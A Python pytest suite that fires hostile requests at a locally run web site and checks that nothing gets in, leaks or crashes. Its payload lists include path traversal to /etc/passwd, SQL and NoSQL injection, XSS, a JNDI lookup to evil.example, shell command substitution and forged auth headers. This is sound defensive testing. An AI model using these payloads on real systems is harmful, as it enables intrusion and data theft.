"""Hostile requests against the composed site: none gets in, none gets out what it must not, none brings it down."""

from __future__ import annotations

import http.client
import json
from collections.abc import Iterator
from urllib.parse import quote

import pytest

from tests.assist.whole_site import TOKEN, Whole

Attack = tuple[str, str, dict[str, str], bytes | None]
"""Method, raw path, headers, body."""

NEVER = ("root:x:", "Traceback", 'File "/', "sqlite3", "sqlalchemy", "argon2id", TOKEN, "-----BEGIN", "[project]")
"""What no answer may hold: files of the machine, the program's inside, its secrets."""

CLIMBS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%252f..%252fetc%252fpasswd",
    "..%5c..%5c..%5cetc%5cpasswd",
    "....//....//etc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "..;/..;/etc/passwd",
    "%00/etc/passwd",
    "catalogue.db",
    "serving.json",
    "pyproject.toml",
)
BELOW = (
    "/",
    "/agent/",
    "/agent/static/",
    "/agent/assets/",
    "/agent/file=",
    "/agent/gradio_api/file=",
    "/agent/gradio_api/proxy=",
    "/people/static/",
    "/signin/",
    "/api/v1/passages/",
)
INJECTIONS = (
    "' OR '1'='1",
    "1; DROP TABLE people--",
    '" OR ""="',
    "') UNION SELECT password FROM people--",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "$(cat /etc/passwd)",
    "`id`",
    "\r\nSet-Cookie: zhiying_session=1",
    "\x00",
    "\u202e\u0000\uffff",
    "A" * 5_000,
    "%s%s%s%n",
    "../../etc/passwd",
    "*" * 300 + "(" * 300,
    "NEAR/1000000 (a b)",
    "title:[* TO *] AND (((",
)
PARAMETERS = (
    "/api/v1/search?q={}",
    "/api/v1/audit?action={}",
    "/api/v1/audit?object={}",
    "/api/v1/audit?since={}",
    "/api/v1/gaps?state={}",
    "/api/v1/documents?x={}",
    "/signin?next={}",
    "/signin/link?t={}",
)


def attacks() -> Iterator[Attack]:
    for below in BELOW:
        for climb in CLIMBS:
            yield "GET", below + climb, {}, None
    for pattern in PARAMETERS:
        for injection in INJECTIONS:
            yield "GET", pattern.format(quote(injection.encode("utf-8", "surrogatepass"), safe="")), {}, None
    for path in ("/api/v1/ask", "/api/v1/session", "/api/v1/people", "/api/v1/erasures", "/api/v1/commands/verify"):
        for body in _bodies():
            yield "POST", path, {"Content-Type": "application/json"}, body
        for origin in ("http://evil.example", "null", "http://127.0.0.1.evil.example", "http://[", "file://"):
            yield "POST", path, {"Content-Type": "application/json", "Origin": origin}, b"{}"
    for host in ("evil.example", "127.0.0.1@evil.example", "[::1", "127.0.0.1.nip.io", "a" * 3_000, "localhost:99999"):
        yield "GET", "/api/v1/people", {"Host": host}, None
    for headers in _headers():
        yield "GET", "/api/v1/people", headers, None
    for method in ("PUT", "DELETE", "PATCH", "TRACE", "OPTIONS", "PROPFIND", "CONNECT", "FOO"):
        yield method, "/api/v1/people", {}, None
        yield method, "/signin", {}, None


def _bodies() -> Iterator[bytes]:
    yield b""
    yield b"{"
    yield b"\xff\xfe\x00"
    yield b"[" * 20_000
    yield b'{"a":' * 5_000
    yield b'{"question": "' + b"\\ud800" + b'"}'
    yield b'{"login": "' + b"\\u0000" + b'", "password": "x"}'
    yield b'{"question": NaN}'
    yield b'{"question": 1e999}'
    yield b"9" * 6_000
    yield json.dumps({"question": "x" * 100_000}).encode()
    yield json.dumps({"__proto__": {"role": "admin"}, "constructor": {}}).encode()
    yield json.dumps({"login": {"$ne": ""}, "password": {"$ne": ""}}).encode()
    yield b"x" * 300_000


def _headers() -> Iterator[dict[str, str]]:
    yield {"Authorization": "Bearer"}
    yield {"Authorization": "Bearer " + "zy_" + "A" * 4_000}
    yield {"Authorization": "Basic YWRtaW46YWRtaW4="}
    yield {"Authorization": "bearer zy_' OR '1'='1"}
    yield {"Cookie": "zhiying_session=" + "A" * 8_000}
    yield {"Cookie": "zhiying_session=' OR '1'='1; zhiying_session=admin"}
    yield {"Cookie": "zhiying_session=%00; role=admin; X-Zhiying-Role=admin"}
    yield {"X-Zhiying-Role": "admin", "X-Zhiying-User": "%E7%AE%A1"}
    yield {"X-Forwarded-For": "127.0.0.1", "X-Forwarded-Host": "evil.example", "X-Original-URL": "/api/v1/people"}
    yield {"X-HTTP-Method-Override": "DELETE", "X-Rewrite-URL": "/people"}
    yield {"Content-Length": "-1"}
    yield {"Content-Length": "9" * 30}
    yield {"Transfer-Encoding": "chunked", "Content-Length": "5"}
    yield {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Key": "x", "Sec-WebSocket-Version": "13"}
    yield {"Range": "bytes=0-18446744073709551615", "Accept-Encoding": "gzip;q=1e9"}


def send(whole: Whole, attack: Attack, headers: dict[str, str]) -> tuple[int, str]:
    """Status and text of the answer; 0 when the server hung up on it."""
    return send_to(int(whole.address.rpartition(":")[2]), attack, headers)


def send_to(port: int, attack: Attack, headers: dict[str, str]) -> tuple[int, str]:
    """The same to any site on loopback."""
    method, path, own, body = attack
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    try:
        connection.putrequest(method, path, skip_host="Host" in own, skip_accept_encoding=True)
        for name, value in (headers | own).items():
            connection.putheader(name, value)
        if body is not None and "Content-Length" not in own:
            connection.putheader("Content-Length", str(len(body)))
        connection.endheaders(body)
        reply = connection.getresponse()
        return reply.status, reply.read().decode("utf-8", "replace") + str(reply.headers)
    except (http.client.HTTPException, OSError):
        return 0, ""
    finally:
        connection.close()


@pytest.mark.parametrize("name", ["anonymous", "agent"])
def test_no_hostile_request_succeeds_or_breaks_anything(whole: Whole, name: str) -> None:
    sent, wrong = 0, []
    for attack in attacks():
        status, text = send(whole, attack, whole.knockers[name].headers)
        sent += 1
        leaked = [secret for secret in NEVER if secret in text]
        entered = name == "anonymous" and 200 <= status < 300 and attack[1].startswith("/api/")
        managed = 200 <= status < 300 and attack[1].startswith(
            ("/api/v1/people", "/api/v1/erasures", "/api/v1/commands")
        )
        stolen = attack[1].startswith("/signin") and ("evil.example/" in text.lower() or "<script>alert" in text)
        if status >= 500 or leaked or entered or managed or stolen:
            wrong.append((attack[0], attack[1][:80], str(attack[2])[:80], status, leaked))
    assert sent >= 200
    assert wrong == []
    with whole.client("admin") as client:
        assert client.get("/api/v1/people").status_code == 200
        assert client.get("/api/v1/audit/check").json()["ok"]


def test_signing_in_never_leads_to_another_site(whole: Whole) -> None:
    from assist.pages.signin import HOME, local

    for onward in (
        "//evil.example",
        "https://evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "javascript:alert(1)",
        "/\t/evil.example",
        "http:evil.example",
        " //evil.example",
        "/%0d%0aSet-Cookie:x\r\n",
        "/" + "a" * 3_000,
    ):
        assert local(onward) == HOME, onward
    assert local("/agent/?q=移机") == "/agent/?q=移机"
